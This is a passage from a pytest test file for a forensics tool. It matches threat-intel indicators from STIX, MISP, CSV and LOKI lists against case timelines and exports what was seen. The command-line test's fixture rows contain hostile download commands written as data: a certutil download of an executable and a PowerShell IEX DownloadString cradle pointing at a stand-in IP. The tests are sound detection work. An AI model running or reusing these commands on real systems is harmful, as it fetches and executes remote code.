"""Threat-intel IOCs: loading STIX 2.1, MISP, CSV and LOKI lists into one table; matching them
against a case in DuckDB (addresses, networks, subdomains, URLs, hashes, file-name regexes, e-mail,
validity windows); exporting what was seen. The sample case's hits are checked against its
ground_truth.json, the signature-base lists against counts taken with grep."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import stix2

from forensics import Case
from forensics.detect import intel
from forensics.detect.findings import FINDINGS, finding_id
from forensics.detect.intel import (
    COLUMNS,
    IntelWarning,
    detect_intel,
    export_seen,
    load_indicators,
    match,
    normalise,
    normalise_url,
)
from forensics.schema import TIMELINE

SAMPLE = Path(__file__).resolve().parents[2] / "sample_data" / "case01"
IOCS_CSV = SAMPLE / "intel" / "iocs.csv"
STIX_FILE = SAMPLE / "intel" / "msupdate.stix2.json"
SYSMON = "Microsoft-Windows-Sysmon%4Operational.evtx"
PCAP = "lan-tap.pcapng"
POWERSHELL = "Microsoft-Windows-PowerShell%4Operational.evtx"
MSUPDATE = "b537681e7f73e7f645488479bf0d1e7d0293d82e39e0a3a3ab38779624e87fef"
SYSUPD = "3b6609fb88b0ac6c7638fd9ed31a123ecaa0f6a64681f6a3a5782f144250c3f4"
T0 = datetime(2026, 3, 10, 9, 0, tzinfo=UTC)


# -- the sample case ----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> tuple[Case, intel.IntelReport]:
    case = Case.open(tmp_path_factory.mktemp("intel") / "case")
    case.ingest([SAMPLE / "network", SAMPLE / "WS01"], jobs=1)
    return case, detect_intel(case, [IOCS_CSV, STIX_FILE])


@pytest.fixture(scope="module")
def truth() -> dict:
    return json.loads((SAMPLE / "ground_truth.json").read_text())


def _hits(case: Case) -> pd.DataFrame:
    found = case.sql(
        "SELECT f.rule_id, f.level, f.matched, f.source, f.source_file, f.source_record, row_file, "
        "row_number, "
        "t.source_ip, t.destination_ip FROM findings f JOIN timeline_rows t USING (row_file, row_number) "
        "WHERE engine = 'ioc'"
    )
    found["value"] = [m["indicator"] for m in found.matched]
    found["cols"] = [
        tuple(sorted(k for k in m if k not in ("indicator", "kind", "source", "pattern", "outside_validity")))
        for m in found.matched
    ]
    found["file"] = [Path(p).name for p in found.source_file]
    return found


def _records(truth: dict, step: str, artifact: str, what: str = "") -> set[int]:
    """Ground-truth locators of a step: EVTX record ids or packet numbers."""
    found = set()
    for step_ in truth["steps"]:
        for ev in step_["evidence"] if step_["id"] == step else []:
            if ev["artifact"].endswith(artifact) and what in ev["what"]:
                found.add(ev["locator"].get("record_id", ev["locator"].get("packet")))
    return found


def test_sample_intel_loads_from_both_files(sample: tuple[Case, intel.IntelReport]) -> None:
    _, report = sample
    # iocs.csv and msupdate.stix2.json carry the same 17 indicators: 6 ipv4, 5 domains, 6 sha256
    assert report.indicators == {"ipv4": 12, "domain": 10, "sha256": 12}
    assert report.warnings == []
    assert report.seen == {"domain": 2, "ipv4": 3, "sha256": 2}
    table, warnings = load_indicators(SAMPLE / "intel")  # the folder: the YARA rules are not intel
    assert len(table) == 34
    assert [(Path(w.file).name, w.reason) for w in warnings] == [
        ("msupdate.yar", "YARA rules, not indicators (the yara engine reads them)")
    ]
    assert report.summary().startswith(
        f"34 indicators (12 ipv4, 10 domain, 12 sha256); {report.hits} hits on 2 domain, 3 ipv4, 2 sha256; "
        "0 warnings"
    )


def test_sample_hits_are_exactly_the_attack_infrastructure(
    sample: tuple[Case, intel.IntelReport], truth: dict
) -> None:
    case, report = sample
    hits = _hits(case)
    assert report.hits == len(hits)
    c2, c2_name, payload_ip, payload_name, exfil = (
        "198.51.100.23",
        "telemetry.micros0ft-cdn.example.net",
        "203.0.113.66",
        "micros0ft-cdn.example.net",
        "192.0.2.77",
    )
    assert {a["ip"] for a in truth["entities"]["addresses"]} == {c2, payload_ip, exfil}
    assert {d["name"] for d in truth["entities"]["domains"]} >= {c2_name, payload_name}
    assert {f["sha256"] for f in truth["entities"]["files"]} >= {MSUPDATE, SYSUPD}
    # (indicator, columns that held it, row source, evidence file): every one found by both feeds
    expected = {
        (exfil, ("destination_ip",), "network_conn", PCAP),
        (exfil, ("destination_ip",), "network_files", PCAP),
        (exfil, ("destination_ip",), "network_http", PCAP),
        (exfil, ("fields.answers",), "network_dns", PCAP),
        (c2, ("destination_ip",), "network_conn", PCAP),
        (c2, ("destination_ip",), "network_tls", PCAP),
        (c2, ("destination_ip",), "windows_evtx", SYSMON),
        (c2, ("fields.QueryResults",), "windows_evtx", SYSMON),
        (c2, ("fields.answers",), "network_dns", PCAP),
        (payload_ip, ("destination_ip",), "network_conn", PCAP),
        (payload_ip, ("destination_ip",), "network_files", PCAP),
        (payload_ip, ("destination_ip",), "network_http", PCAP),
        (
            payload_ip,
            ("destination_ip", "fields.host", "url_full"),
            "network_http",
            PCAP,
        ),  # http://203.0.113.66/t/sysupd
        (payload_ip, ("destination_ip",), "windows_evtx", SYSMON),
        (payload_ip, ("fields.QueryResults",), "windows_evtx", SYSMON),
        (payload_ip, ("fields.answers",), "network_dns", PCAP),
        (SYSUPD, ("file_hash_sha256",), "network_files", PCAP),
        (MSUPDATE, ("fields.Hashes", "file_hash_sha256"), "windows_evtx", SYSMON),  # Sysmon 1: both columns
        (MSUPDATE, ("file_hash_sha256",), "network_files", PCAP),  # the download
        (payload_name, ("dns_question_name",), "network_dns", PCAP),
        (payload_name, ("dns_question_name",), "windows_evtx", SYSMON),
        (payload_name, ("fields.DestinationHostname",), "windows_evtx", SYSMON),
        (payload_name, ("fields.host", "url_full"), "network_http", PCAP),
        (payload_name, ("tls_server_name",), "network_tls", PCAP),  # parent of the C2 name
        (payload_name, ("fields.ScriptBlockText",), "windows_evtx", POWERSHELL),  # the download cradle
        (c2_name, ("dns_question_name",), "network_dns", PCAP),
        (c2_name, ("dns_question_name",), "windows_evtx", SYSMON),
        (c2_name, ("fields.DestinationHostname",), "windows_evtx", SYSMON),
        (c2_name, ("tls_server_name",), "network_tls", PCAP),
    }
    assert set(zip(hits.value, hits.cols, hits.source, hits.file, strict=True)) == expected
    feeds = hits.groupby(["value", "cols", "source", "row_file", "row_number"]).rule_id.agg(
        lambda ids: " ".join(sorted(i.split(":")[0].split("--")[0] for i in ids))
    )
    assert set(feeds) == {"indicator iocs.csv"}  # each row once per feed
    assert set(hits.level) == {"medium"}  # no confidence in either feed

    def records(value: str, source: str, file: str) -> set[int]:
        rows = hits[(hits.value == value) & (hits.source == source) & (hits.file == file)]
        return set(rows.source_record.astype(int))

    beacons = _records(truth, "S09", SYSMON, "connection to")
    assert len(beacons) == 58
    assert records(c2, "windows_evtx", SYSMON) == beacons | _records(truth, "S09", SYSMON, "DNS")
    assert records(c2_name, "windows_evtx", SYSMON) == beacons | _records(truth, "S09", SYSMON, "DNS")
    assert records(payload_name, "windows_evtx", SYSMON) == (
        beacons
        | _records(truth, "S09", SYSMON, "DNS")
        | _records(truth, "S04", SYSMON)
        | _records(truth, "S05", SYSMON, "connection")
    )
    assert records(payload_ip, "windows_evtx", SYSMON) == {4290, 4291}
    assert records(payload_name, "windows_evtx", POWERSHELL) == _records(truth, "S03", POWERSHELL) == {167}
    assert records(MSUPDATE, "windows_evtx", SYSMON) == _records(truth, "S06", SYSMON, "started") == {4293}
    # on the wire, packets as the ground truth numbers them (a row's source_record is its first packet)
    tls = _records(truth, "S09", PCAP, "TLS ClientHello")
    assert records(c2, "network_tls", PCAP) == records(c2_name, "network_tls", PCAP) == tls
    assert len(records(c2, "network_conn", PCAP)) == len(tls)
    # DNS: the client's query, and DC01 (10.20.0.5) forwarding it upstream in the next packet; the
    # payload domain also matches the C2 name's query (a subdomain)
    steps = {
        payload_name: ("S04", "S09"),
        payload_ip: ("S04",),
        c2_name: ("S09",),
        c2: ("S09",),
        exfil: ("S15",),
    }
    for value, named in steps.items():
        asked = {packet for step in named for packet in _records(truth, step, PCAP, "DNS")}
        assert len(asked) == len(named)
        assert records(value, "network_dns", PCAP) == asked | {packet + 1 for packet in asked}
    forwarded = hits[(hits.source == "network_dns") & (hits.source_ip == "10.20.0.5")]
    assert set(forwarded.destination_ip) == {"192.0.2.53"}
    http = _records(truth, "S05", PCAP) | _records(truth, "S12", PCAP) | _records(truth, "S15", PCAP, "HTTP")
    assert {r for v in (payload_ip, payload_name, exfil) for r in records(v, "network_http", PCAP)} == http


def test_benign_rows_do_not_hit(sample: tuple[Case, intel.IntelReport], truth: dict) -> None:
    case, _ = sample
    hits = _hits(case)
    malicious_sysmon = {
        ev["locator"]["record_id"]
        for step in truth["steps"]
        for ev in step["evidence"]
        if ev["artifact"].endswith(SYSMON)
    }
    sysmon = set(hits[hits.file == SYSMON].source_record.astype(int))
    assert sysmon and sysmon <= malicious_sysmon
    # on the wire only WS01 (10.20.0.21), SRV01 (10.20.0.10) and the DNS server (10.20.0.5) take part
    network = hits[hits.file == PCAP]
    assert set(network.source_ip) <= {"10.20.0.21", "10.20.0.10", "10.20.0.5"}
    background = case.sql(
        "SELECT count(*) AS n FROM timeline WHERE source LIKE 'network_%' "
        "AND source_ip NOT IN ('10.20.0.21', '10.20.0.10', '10.20.0.5')"
    ).n[0]
    assert background > 1000  # plenty of benign traffic, none of it hit
    # the other campaign's indicators are in the feeds but nowhere in the case
    others = {"198.51.100.201", "203.0.113.237", "192.0.2.219", "rnicrosoft-login.example.org"}
    assert not others & set(hits.value)


def test_findings_tag_rows_and_are_stable(sample: tuple[Case, intel.IntelReport]) -> None:
    case, report = sample
    table = report.findings
    assert table.schema.equals(FINDINGS)
    row = table.filter(pa.compute.equal(table.column("source_record"), 4293)).to_pylist()
    assert len(row) == 2  # the CSV's and the STIX bundle's indicator for the implant's hash
    first = next(r for r in row if r["rule_id"] == "indicator--376a836d-3ced-5f69-8b7c-680d42c08b49")
    assert first["finding_id"] == finding_id("ioc", first["rule_id"], first["row_file"], first["row_number"])
    assert first["rule_title"] == f"IOC sha256 {MSUPDATE} (Example CERT feed)"
    assert dict(first["matched"]) == {
        "fields.Hashes": f"SHA256={MSUPDATE.upper()}",  # the Sysmon 1 Hashes item that matched
        "file_hash_sha256": MSUPDATE,
        "indicator": MSUPDATE,
        "kind": "sha256",
        "source": "msupdate.stix2.json (Example CERT feed)",
    }
    assert first["message"] == (
        f"fields.Hashes SHA256={MSUPDATE.upper()} matches sha256 indicator {MSUPDATE}: "
        "MsUpdate implant (msupdate.exe) [msupdate.stix2.json (Example CERT feed)]"
    )
    tags = case.sql("SELECT tags FROM timeline WHERE source_record = 4293 AND event_code = '1'").tags[0]
    assert list(tags) == [f"IOC sha256 {MSUPDATE} (Example CERT feed)"]
    again = match(case, load_indicators([IOCS_CSV, STIX_FILE])[0])
    assert sorted(again.column("finding_id").to_pylist()) == sorted(table.column("finding_id").to_pylist())


def test_export_seen_blocklist_and_stix(sample: tuple[Case, intel.IntelReport], tmp_path: Path) -> None:
    case, _ = sample
    blocklist = export_seen(case, tmp_path / "block.txt", "blocklist")
    assert blocklist.read_text() == (
        f"# Tracehound: 7 indicators seen in case {case.root.name}\n\n"
        "# ipv4 (3)\n192.0.2.77\n198.51.100.23\n203.0.113.66\n\n"
        "# domain (2)\nmicros0ft-cdn.example.net\ntelemetry.micros0ft-cdn.example.net\n\n"
        f"# sha256 (2)\n{SYSUPD}\n{MSUPDATE}\n"
    )
    indicators, _ = load_indicators(STIX_FILE)
    path = export_seen(case, tmp_path / "seen.json", "stix", indicators=indicators)
    bundle = stix2.parse(path.read_text(), allow_custom=False)
    by_type: dict[str, list] = {}
    for obj in bundle.objects:
        by_type.setdefault(obj.type, []).append(obj)
    assert [o.name for o in by_type["identity"]] == ["Tracehound"]
    patterns = {o.pattern: o for o in by_type["indicator"]}
    assert set(patterns) == {
        "[ipv4-addr:value = '192.0.2.77']",
        "[ipv4-addr:value = '198.51.100.23']",
        "[ipv4-addr:value = '203.0.113.66']",
        "[domain-name:value = 'micros0ft-cdn.example.net']",
        "[domain-name:value = 'telemetry.micros0ft-cdn.example.net']",
        f"[file:hashes.'SHA-256' = '{SYSUPD}']",
        f"[file:hashes.'SHA-256' = '{MSUPDATE}']",
    }
    c2 = patterns["[ipv4-addr:value = '198.51.100.23']"]
    assert c2.valid_from == datetime(2026, 3, 6, 14, 0, tzinfo=UTC)  # the feed's
    assert {"tracehound-seen", "ipv4", "msupdate", "malicious-activity"} <= set(c2.labels) | set(
        c2.indicator_types
    )
    assert all(o.created_by_ref == by_type["identity"][0].id for o in by_type["indicator"])
    sightings = {s.sighting_of_ref: s for s in by_type["sighting"]}
    assert set(sightings) == {o.id for o in by_type["indicator"]}
    hits = _hits(case)
    c2_rows = hits[hits.value == "198.51.100.23"][["row_file", "row_number"]].drop_duplicates()
    seen = sightings[c2.id]
    assert seen.count == len(c2_rows)  # rows, not findings: both feeds name the address
    times = case.sql(
        "SELECT min(datetime) AS a, max(datetime) AS b FROM findings "
        "WHERE matched['indicator'] = '198.51.100.23'"
    )
    assert (seen.first_seen, seen.last_seen) == (times.a[0].to_pydatetime(), times.b[0].to_pydatetime())
    with pytest.raises(ValueError, match="format"):
        export_seen(case, tmp_path / "x", "csv")


# -- a small case from rows --------------------------------------------------------------------------
def _case(root: Path, rows: list[dict]) -> Case:
    """A case whose store holds exactly ``rows`` (timeline columns; ``fields`` as a dict)."""
    case = Case.open(root)
    full = []
    for number, row in enumerate(rows):
        full.append(
            {
                "timestamp_desc": "Event Recorded",
                "message": "test",
                "source": "test",
                "source_record": number,
                "datetime": T0,
                **row,
                "fields": list((row.get("fields") or {}).items()) or None,
            }
        )
    (case.store / "test").mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.Table.from_pylist(full, schema=TIMELINE), case.store / "test" / "rows.parquet")
    return case


def _frame(rows: list[dict]) -> pd.DataFrame:
    """An indicator table from (kind hint, value, extra columns) dicts, through ``normalise``."""
    out = []
    for number, row in enumerate(rows):
        kind, value, pattern, port = normalise(row["value"], row.get("kind"))
        out.append(
            {
                "indicator_id": row.get("id", f"t{number}"),
                "file": "t.csv",
                "source": "t.csv",
                **row,
                "kind": kind,
                "value": value,
                "pattern": pattern,
                "port": row.get("port", port),
            }
        )
    return pd.DataFrame(out)


def _matched(table: pa.Table) -> set[tuple[str, int, tuple[str, ...]]]:
    """(rule id, source_record, matched columns) of each finding."""
    return {
        (r["rule_id"], r["source_record"], tuple(sorted(k for k, _ in r["matched"] if k not in _META)))
        for r in table.to_pylist()
    }


_META = ("indicator", "kind", "source", "pattern", "outside_validity")


def test_subdomains_match_but_look_alikes_do_not(tmp_path: Path) -> None:
    case = _case(
        tmp_path / "case",
        [
            {"dns_question_name": "a.b.example.net"},  # 0: subdomain
            {"dns_question_name": "badexample.net"},  # 1: look-alike
            {"dns_question_name": "example.net.evil.org"},  # 2: suffix elsewhere
            {"tls_server_name": "EXAMPLE.NET."},  # 3: case, trailing dot
            {"url_full": "https://x.example.net:8443/a?b=1"},  # 4: URL host
            {"fields": {"host": "cdn.example.net:8080"}},  # 5: HTTP Host with a port
            {"fields": {"answers": "cname.example.net,192.0.2.1"}},  # 6: a CNAME in DNS answers
            {"fields": {"DestinationHostname": "net"}},  # 7: the top-level domain alone
        ],
    )
    found = match(case, _frame([{"id": "d", "value": "*.Example.NET."}]))
    assert _matched(found) == {
        ("d", 0, ("dns_question_name",)),
        ("d", 3, ("tls_server_name",)),
        ("d", 4, ("url_full",)),
        ("d", 5, ("fields.host",)),
        ("d", 6, ("fields.answers",)),
    }


def test_command_lines_and_script_blocks_are_searched_for_hosts_and_urls(tmp_path: Path) -> None:
    case = _case(
        tmp_path / "case",
        [
            {"process_command_line": "certutil -urlcache -f http://dl.example.net/a.exe C:\\Temp\\a.exe"},  # 0
            {"process_command_line": "ping -n 1 203.0.113.9 && nslookup c2.example.net."},  # 1
            {"process_command_line": r"C:\Tools\example.net\x.exe /s"},  # 2: a path part, not a host
            {"process_command_line": "notepad.exe badexample.net.txt 203.0.113.99"},  # 3: look-alikes
            {"fields": {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')"}},  # 4
        ],
    )  # fmt: skip
    found = match(
        case,
        _frame(
            [
                {"id": "d", "value": "example.net"},
                {"id": "ip", "value": "203.0.113.9"},
                {"id": "u", "value": "http://dl.example.net/a.exe"},
            ]
        ),
    )
    assert _matched(found) == {
        ("d", 0, ("process_command_line",)),
        ("u", 0, ("process_command_line",)),
        ("d", 1, ("process_command_line",)),
        ("ip", 1, ("process_command_line",)),
        ("ip", 4, ("fields.ScriptBlockText",)),
    }


def test_cidr_and_address_forms(tmp_path: Path) -> None:
    case = _case(
        tmp_path / "case",
        [
            {"destination_ip": "198.51.100.7", "destination_port": 443},  # 0
            {"fields": {"answers": "203.0.113.1,198.51.100.8"}},  # 1
            {"fields": {"QueryResults": "type:  5 cdn.example.org;::ffff:198.51.100.9;"}},  # 2: Sysmon 22
            {"source_ip": "198.51.101.1"},  # 3: next network
            {"source_ip": "2001:DB8:0:0:0:0:0:1"},  # 4: IPv6, not canonical
            {"destination_ip": "192.0.2.10", "destination_port": 443},  # 5
            {"destination_ip": "192.0.2.10", "destination_port": 80},  # 6
            {"url_full": "http://192.0.2.10/x"},  # 7: address as URL host
            {"source_ip": "300.1.1.1"},  # 8: not an address
        ],
    )
    found = match(
        case,
        _frame(
            [
                {"id": "net4", "value": "198.51.100.0/24"},
                {"id": "net6", "value": "2001:db8::/32"},
                {"id": "port", "value": "192.0.2.10:443"},  # ip:port, the matched side's port
                {"id": "ip", "value": "192.0.2.10"},
                {"id": "wide", "value": "0.0.0.0/0"},
            ]
        ),
    )
    wide = {
        ("wide", i, c)
        for i, c in (
            (0, "destination_ip"),
            (1, "fields.answers"),
            (2, "fields.QueryResults"),
            (3, "source_ip"),
            (5, "destination_ip"),
            (6, "destination_ip"),
            (7, "url_full"),
        )
    }
    assert _matched(found) == {
        ("net4", 0, ("destination_ip",)),
        ("net4", 1, ("fields.answers",)),
        ("net4", 2, ("fields.QueryResults",)),
        ("net6", 4, ("source_ip",)),
        ("port", 5, ("destination_ip",)),
        ("ip", 5, ("destination_ip",)),
        ("ip", 6, ("destination_ip",)),
        ("ip", 7, ("url_full",)),
        *((rule, record, (column,)) for rule, record, column in wide),
    }


def test_validity_window_lowers_the_level(tmp_path: Path) -> None:
    case = _case(
        tmp_path / "case",
        [{"destination_ip": "192.0.2.5", "datetime": T0}, {"destination_ip": "192.0.2.5", "datetime": None}],
    )
    window = {
        "valid_from": pd.Timestamp("2026-03-01", tz="UTC"),
        "valid_until": pd.Timestamp("2026-03-09", tz="UTC"),
    }
    found = match(
        case,
        _frame(
            [
                {"id": "expired", "value": "192.0.2.5", "confidence": 90, **window},
                {
                    "id": "current",
                    "value": "192.0.2.5",
                    "confidence": 90,
                    "valid_from": pd.Timestamp("2026-03-10", tz="UTC"),
                },
                {"id": "unsure", "value": "192.0.2.5", "confidence": 40},
                {"id": "unknown", "value": "192.0.2.5"},
                {"id": "expired-low", "value": "192.0.2.5", "confidence": 10, **window},
            ]
        ),
    ).to_pylist()
    levels = {
        (r["rule_id"], r["source_record"]): (r["level"], dict(r["matched"]).get("outside_validity"))
        for r in found
    }
    assert levels == {
        ("expired", 0): ("medium", "true"),
        ("expired", 1): ("high", None),  # no time: not outside
        ("current", 0): ("high", None),
        ("current", 1): ("high", None),
        ("unsure", 0): ("low", None),
        ("unsure", 1): ("low", None),
        ("unknown", 0): ("medium", None),
        ("unknown", 1): ("medium", None),
        ("expired-low", 0): ("informational", "true"),
        ("expired-low", 1): ("low", None),
    }
    message = next(r["message"] for r in found if r["rule_id"] == "expired" and r["source_record"] == 0)
    assert message.endswith("(outside its validity)")


def test_normalised_values_match(tmp_path: Path) -> None:
    sha = "a" * 64
    md5 = "0123456789abcdef0123456789abcdef"
    case = _case(
        tmp_path / "case",
        [
            {"file_hash_sha256": sha},  # 0
            {"fields": {"Hashes": f"MD5={md5.upper()},IMPHASH={'F' * 32}"}},  # 1: Sysmon, upper case
            {"fields": {"Hashes": f"IMPHASH={md5.upper()}"}},  # 2: an import hash is no file hash
            {"fields": {"md5": md5}},  # 3: Zeek files.log
            {"url_full": "http://evil.example.net/dl/x.exe"},  # 4
            {"url_full": "http://evil.example.net:8080/dl/x.exe"},  # 5: another port
            {"url_full": "http://evil.example.net/dl/x.exe?q=1"},  # 6: another URL
            {"dns_question_name": "evil.example.net."},  # 7: trailing dot
            {"user_name": "Alice@Mail.Example"},  # 8
            {"fields": {"mailfrom": '"Bob" <bob@mail.example>'}},  # 9
        ],
    )
    indicators = _frame(
        [
            {"id": "sha", "value": sha.upper()},
            {"id": "md5", "value": f"MD5:{md5.upper()}"},
            {"id": "url", "value": "HTTP://Evil.Example.NET:80/dl/x.exe#frag"},
            {"id": "dom", "value": "Evil.Example.NET.", "kind": "domain"},
            {"id": "alice", "value": "alice@mail.example"},
            {"id": "bob", "value": "mailto:BOB@mail.example"},
        ]
    )
    assert list(indicators.value) == [
        sha,
        md5,
        "http://evil.example.net/dl/x.exe",
        "evil.example.net",
        "alice@mail.example",
        "bob@mail.example",
    ]
    assert _matched(match(case, indicators)) == {
        ("sha", 0, ("file_hash_sha256",)),
        ("md5", 1, ("fields.Hashes",)),
        ("md5", 3, ("fields.md5",)),
        ("url", 4, ("url_full",)),
        ("dom", 4, ("url_full",)),
        ("dom", 5, ("url_full",)),
        ("dom", 6, ("url_full",)),
        ("dom", 7, ("dns_question_name",)),
        ("alice", 8, ("user_name",)),
        ("bob", 9, ("fields.mailfrom",)),
    }


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("HTTP://Evil.Example.NET:80", "http://evil.example.net/"),
        ("https://Evil.Example.NET.:443/A?b=C#frag", "https://evil.example.net/A?b=C"),
        ("https://evil.example.net:80/", "https://evil.example.net:80/"),
        ("http://User:Pw@Evil.Example.net:8080?x", "http://User:Pw@evil.example.net:8080/?x"),
        ("hxxp://evil[.]example[.]net/a", "http://evil.example.net/a"),
        ("evil.example.net/a", "http://evil.example.net/a"),
        ("ftp://[2001:DB8::1]:21/f", "ftp://[2001:db8::1]/f"),
    ],
)
def test_url_normalisation_in_python_and_sql_agree(given: str, expected: str) -> None:
    assert normalise_url(given) == expected
    con = duckdb.connect()
    con.execute(intel._MACROS).fetchall()
    observed = given if "://" in given and not given.startswith("hxxp") else expected
    con.execute("CREATE TEMP TABLE th_vals AS SELECT 'url' AS family, ? AS raw", [observed]).fetchall()
    con.execute(intel._URLS).fetchall()
    assert con.execute("SELECT url FROM th_urls").fetchall() == [(expected,)]


def test_normalise_rejects_and_infers() -> None:
    assert normalise("::ffff:203.0.113.66") == ("ipv4", "203.0.113.66", None, None)
    assert normalise("2001:0DB8::0001") == ("ipv6", "2001:db8::1", None, None)
    assert normalise("10.1.2.3/8") == ("cidr", "10.0.0.0/8", None, None)
    assert normalise("10.1.2.3/32") == ("ipv4", "10.1.2.3", None, None)
    assert normalise("[2001:db8::1]:443") == ("ipv6", "2001:db8::1", None, 443)
    assert normalise("bücher.example") == ("domain", "xn--bcher-kva.example", None, None)
    assert normalise("evil.exe")[0] == "filename"
    assert normalise("evil.zip")[0] == "domain"  # .zip is a top-level domain
    assert normalise("C:\\Temp\\evil.exe")[:3] == (
        "filename",
        "C:\\Temp\\evil.exe",
        r"(?i)(?:^|[\\/])C:[\\/]Temp[\\/]evil\.exe$",
    )
    for bad, kind in (
        ("1.2.3", "ip"),
        ("localhost", "domain"),
        ("abc", "sha256"),
        ("a" * 64, "md5"),
        ("x y", None),
    ):
        with pytest.raises(ValueError):
            normalise(bad, kind)


# -- the signature-base (LOKI) lists --------------------------------------------------------------------
@pytest.mark.corpus
def test_signature_base_hash_iocs(corpus: Path) -> None:
    """hash-iocs.txt: ``grep -vcE '^\\s*(#|$)'`` = 3224 lines, of which
    ``cut -d';' -f1 | tr A-F a-f | sort -u`` leaves 3053 distinct hashes by length 986 x 32,
    893 x 40, 1174 x 64: 171 repeats, no bad line."""
    table, warnings = load_indicators(corpus / "yara/signature-base/iocs/hash-iocs.txt")
    assert len(table) == 3053
    assert table.kind.value_counts().to_dict() == {"sha256": 1174, "md5": 986, "sha1": 893}
    assert [(w.reason, w.count) for w in warnings] == [("duplicate indicators skipped (first kept)", 171)]
    first = table.iloc[0]
    assert (first.indicator_id, first.value, first.description) == (
        "hash-iocs.txt:20",
        "ce583821191345274cd954b2db7da9742c239fe413fc17dcb97ffdd7b51cb072",
        "Dark Caracal - MS Windows HtmlHelp Data",
    )
    scored = table[table.value == "bf4f41403280c1b115650d470f9b260a5c9042c04d9bcc2a6ca504a66379b2d6"].iloc[0]
    assert (scored.confidence, scored.description) == (
        55,
        "Vulnerable Log4j library ./apache-log4j-2.0-alpha2-bin/log4j-core-2.0-alpha2.jar",
    )


@pytest.mark.corpus
def test_signature_base_c2_iocs(corpus: Path) -> None:
    """c2-iocs.txt: 1844 value lines, ``cut -d';' -f1 | tr A-Z a-z | sort -u`` = 1773 distinct
    (118 addresses, 1655 names): 71 repeats. Six lines carry a score (``ip;65``)."""
    table, warnings = load_indicators(corpus / "yara/signature-base/iocs/c2-iocs.txt")
    assert len(table) == 1773
    assert table.kind.value_counts().to_dict() == {"domain": 1655, "ipv4": 118}
    assert [(w.reason, w.count) for w in warnings] == [("duplicate indicators skipped (first kept)", 71)]
    first = table.iloc[0]
    assert (first.value, first.indicator_id, first.description) == (
        "suroot.com",
        "c2-iocs.txt:13",
        "FireEye Operation Snowman https://goo.gl/x1v7mT",
    )
    assert table[table.confidence.notna()].value.tolist()[:2] == ["176.123.5.126", "5.149.249.226"]
    assert set(table.confidence.dropna()) == {65}


@pytest.mark.corpus
def test_signature_base_filename_iocs_match_paths(corpus: Path, tmp_path: Path) -> None:
    """filename-iocs.txt: 3828 regex lines (30 with a false-positive regex), ``cut -d';' -f1 |
    sort -u`` = 3711 distinct: 117 repeats. Regexes over full paths, case-sensitive unless (?i)."""
    table, warnings = load_indicators(corpus / "yara/signature-base/iocs/filename-iocs.txt")
    assert len(table) == 3711 and set(table.kind) == {"filename"}
    assert [(w.reason, w.count) for w in warnings] == [("duplicate indicators skipped (first kept)", 117)]
    regin = table[table.value == r"\\usbclass\.sys"].iloc[0]
    assert (regin.pattern, regin.confidence, regin.description) == (r"\\usbclass\.sys", 80, "Regin")
    case = _case(
        tmp_path / "case",
        [
            {"file_path": "C:\\Windows\\System32\\drivers\\usbclass.sys"},  # 0: Regin
            {"file_path": "C:\\Windows\\System32\\drivers\\USBCLASS.SYS"},  # 1: case-sensitive regex
            {"process_executable": "C:\\Temp\\whatsapp.exe"},  # 2
            {"process_executable": "C:\\Users\\a\\AppData\\Local\\WhatsApp\\whatsapp.exe"},  # 3: excluded
            {"process_executable": "C:\\Windows\\System32\\svchost.exe"},  # 4: benign
        ],
    )
    found = match(case, table).to_pylist()
    by_row = {(r["source_record"], dict(r["matched"])["indicator"]) for r in found}
    assert (0, r"\\usbclass\.sys") in by_row
    assert (2, r"\\whatsapp\.exe") in by_row
    assert {record for record, _ in by_row} <= {0, 2}
    whatsapp = next(
        r for r in found if r["source_record"] == 2 and dict(r["matched"])["indicator"] == r"\\whatsapp\.exe"
    )
    assert whatsapp["level"] == "medium"  # score 55
    assert dict(whatsapp["matched"])["process_executable"] == "C:\\Temp\\whatsapp.exe"


# -- MISP ---------------------------------------------------------------------------------------------------
def _misp_event() -> dict:
    def attr(uuid: str, mtype: str, value: str, **extra: object) -> dict:
        return {
            "uuid": uuid,
            "type": mtype,
            "value": value,
            "category": "Network activity",
            "to_ids": True,
            **extra,
        }

    return {
        "Event": {
            "uuid": "ev-1",
            "info": "MsUpdate campaign",
            "date": "2026-03-09",
            "threat_level_id": "1",
            "Orgc": {"name": "Example CERT"},
            "Tag": [{"name": "tlp:amber"}, {"name": "confidence-level:usually-confident"}],
            "Galaxy": [
                {
                    "type": "mitre-attack-pattern",
                    "GalaxyCluster": [
                        {
                            "value": "Web Protocols - T1071.001",
                            "meta": {"external_id": ["T1071.001"]},
                            "tag_name": 'misp-galaxy:mitre-attack-pattern="Web Protocols - T1071.001"',
                        }
                    ],
                }
            ],
            "Attribute": [
                attr(
                    "a1",
                    "ip-dst",
                    "198.51.100.23",
                    comment="C2",
                    first_seen="2026-03-10T09:00:00+00:00",
                    last_seen="2026-03-10T12:00:00Z",
                ),
                attr("a2", "ip-dst|port", "192.0.2.10|443"),
                attr("a3", "ip-src", "203.0.113.0/24"),
                attr("a4", "domain", "Micros0ft-CDN.example.net"),
                attr("a5", "hostname", "telemetry.micros0ft-cdn.example.net."),
                attr("a6", "domain|ip", "files.example.org|192.0.2.77"),
                attr("a7", "url", "http://micros0ft-cdn.example.net/dl/msupdate.exe"),
                attr("a8", "uri", "/dl/msupdate.exe"),
                attr("a9", "email-src", "Phisher@Mail.Example", category="Payload delivery"),
                attr("a10", "md5", "B4DA6050BFAD2B7584277AECF504CC4F", to_ids=False),
                attr("a11", "sha1", "89999dd2958c6c03571723da219c1f9fd3952783"),
                attr(
                    "a12",
                    "filename|sha256",
                    f"msupdate.exe|{MSUPDATE}",
                    Tag=[{"name": "T1036.005"}, {"name": "confidence-level:fairly-confident"}],
                ),
                attr("a13", "mutex", "Global\\MsUpd"),
                attr("a14", "mutex", "Global\\MsUpd2"),
                attr("a15", "ip-dst", "not-an-address"),
                attr("a16", "domain", "deleted.example.net", deleted=True),
            ],
            "Object": [
                {
                    "name": "file",
                    "uuid": "o1",
                    "Attribute": [
                        attr("o1a", "filename", "invoice.docm", category="Payload delivery"),
                        attr("o1b", "size-in-bytes", "2081"),
                    ],
                }
            ],
        }
    }


def test_misp_event(tmp_path: Path) -> None:
